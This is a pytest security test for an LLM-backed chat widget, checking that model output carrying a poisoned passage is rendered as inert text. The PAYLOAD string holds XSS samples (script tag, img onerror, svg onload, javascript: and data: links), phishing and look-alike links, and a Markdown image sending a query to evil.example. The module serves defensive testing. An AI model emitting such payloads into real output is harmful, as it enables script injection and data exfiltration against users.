"""LLM05 improper output handling: what a model (or a poisoned passage) writes must reach the
widget's customer as inert text. A scripted model answers with script tags, an onerror image, a
Markdown image pointing at an outside server and links; the real app serves the real widget to a
real headless Chromium, which records every request it makes.
"""
from __future__ import annotations

from urllib.parse import urlparse

import pytest
from support.browser import chromium
from support.servers import ThreadedServer

# No digits: the grounding guard would drop a sentence with numbers absent from the facts, and the
# payload must reach the browser for the test to mean anything.
PAYLOAD = ("Расчёт выше показывает память под веса и KV-кэш. "
           "<script>window.__pwned_script = true</script> <img src=x onerror=\"window.__pwned_img = true\"> "
           "<svg onload=\"window.__pwned_svg = true\"></svg> ![x](http://evil.example/?q=secret) "
           "[phish](https://evil.example/login) [js](javascript:window.__pwned_js=true) "
           "[data](data:text/html,<script>window.__pwned_data=true</script>) [guide](/demo) "
           "[shop](https://shop.vendor.example/h100) [eu](https://eu.shop.vendor.example/a) "
           "[lookalike](https://shop.vendor.example.evil.example/b)")
VENDOR = "shop.vendor.example"  # settings.server.link_hosts: the widget learns it from /api/config
FLAGS = ["__pwned_script", "__pwned_img", "__pwned_svg", "__pwned_js", "__pwned_data"]


@pytest.fixture(scope="module")
def widget_run(kb_settings, kb_retriever, tmp_path_factory):
    """Ask one question through the widget on the demo page; return what the browser saw and did."""
    from support.fakes import ScriptedBackend
    from assistant.service import Assistant
    from ui import widget
    from ui.app import create_app

    tmp = tmp_path_factory.mktemp("widget")
    settings = kb_settings.model_copy(deep=True)
    settings.leads.database_url = f"sqlite:///{tmp / 'leads.sqlite3'}"
    settings.faq.cache_path = tmp / "faq.json"
    settings.server.link_hosts = [VENDOR]
    assistant = Assistant(settings, backend=ScriptedBackend([PAYLOAD]), retriever=kb_retriever)
    # This tests the widget layer alone: the server-side guard would already drop the foreign links
    # (tested in tests/assistant/test_guard.py), so it is switched off to let the payload through.
    guard_off = pytest.MonkeyPatch()
    guard_off.setattr("assistant.guard.foreign_contacts", lambda sentence, trusted: [])
    app = create_app(settings, assistant=assistant, mount_ui=False)
    widget.mount(app, settings)  # the widget alone: Gradio is not under test here
    server = ThreadedServer(app).__enter__()
    origin = server.url
    requests: list[str] = []
    try:
        with chromium() as browser:
            page = browser.new_page()
            page.on("request", lambda r: requests.append(r.url))
            # nothing leaves the machine even if the widget tried: outside requests are recorded, then aborted
            page.route("**/*", lambda route: route.continue_() if route.request.url.startswith(origin)
                       else route.abort())
            page.goto(f"{origin}/demo")
            page.wait_for_function("() => !!window.GpuSizerWidgetAPI")
            page.evaluate("() => { window.GpuSizerWidgetAPI.open(); "
                          "window.GpuSizerWidgetAPI.ask('Хватит ли одной RTX 4090 для Llama-3-8B?'); }")
            page.wait_for_selector(".gsw-msg[data-done='1'] .gsw-expl", timeout=60_000)
            page.wait_for_timeout(500)  # let any injected handler fire, were there one
            seen = page.evaluate("""(flags) => {
                const root = document.getElementById('gpu-sizer-widget').shadowRoot;
                const log = root.querySelector('.gsw-log');
                return {
                  flags: Object.fromEntries(flags.map(f => [f, window[f] === undefined ? null : String(window[f])])),
                  active: Array.from(log.querySelectorAll('script, img, svg, iframe, object, embed, [onerror], '
                                                          + '[onload], [src]')).map(n => n.outerHTML),
                  links: Array.from(log.querySelectorAll('a')).map(a => a.href),
                  expl: Array.from(log.querySelectorAll('.gsw-expl')).map(n => n.textContent).join(' '),
                };
            }""", FLAGS)
    finally:
        server.__exit__()
        guard_off.undo()
    return {"origin": origin, "requests": requests, **seen}


def test_no_script_execution(widget_run, case):
    case.set("widget-no-script", "LLM05", "<script>, <img onerror>, <svg onload>, javascript: and data: links in a "
                                          "model answer run nothing in the page and create no active element")
    case.evidence_of(f"flags={widget_run['flags']}; active={widget_run['active']}; shown: {widget_run['expl']}")
    assert "<script>" in widget_run["expl"], "the payload did not reach the widget (the test proves nothing)"
    assert all(v is None for v in widget_run["flags"].values()), widget_run["flags"]
    assert widget_run["active"] == [], widget_run["active"]


def test_no_external_requests(widget_run, case):
    case.set("widget-no-external-request", "LLM05", "a Markdown image to http://evil.example/?q=secret and "
                                                    "<img src=x> make the browser request nothing outside the server")
    outside = [u for u in widget_run["requests"] if not u.startswith(widget_run["origin"])]
    case.evidence_of(f"{len(widget_run['requests'])} requests; outside the server: {outside}")
    assert any("/api/chat" in u for u in widget_run["requests"]), "the widget never asked the server"
    assert outside == [], outside
    assert not any(urlparse(u).path == "/x" for u in widget_run["requests"]), "<img src=x> was fetched"


def test_only_allow_listed_links(widget_run, case):
    case.set("widget-allow-listed-links", "LLM05", "only links to the widget's own server and the vendor's hosts "
                                                   "(link_hosts from /api/config, subdomains too) become clickable; "
                                                   "evil.example, a look-alike host, javascript: and data: stay text")
    case.evidence_of(f"links={widget_run['links']}; shown: {widget_run['expl'][-300:]}")
    links = widget_run["links"]
    assert any(h.startswith(widget_run["origin"] + "/") for h in links), "[guide](/demo) not rendered (over-stripping)"
    assert f"https://{VENDOR}/h100" in links and f"https://eu.{VENDOR}/a" in links, "the vendor's hosts stay text"
    assert all(urlparse(h).scheme in ("http", "https") and (h.startswith(widget_run["origin"] + "/") or
                                                            urlparse(h).hostname in (VENDOR, f"eu.{VENDOR}"))
               for h in links), links
    assert "evil.example" not in " ".join(widget_run["links"]) and "evil.example" not in widget_run["expl"]

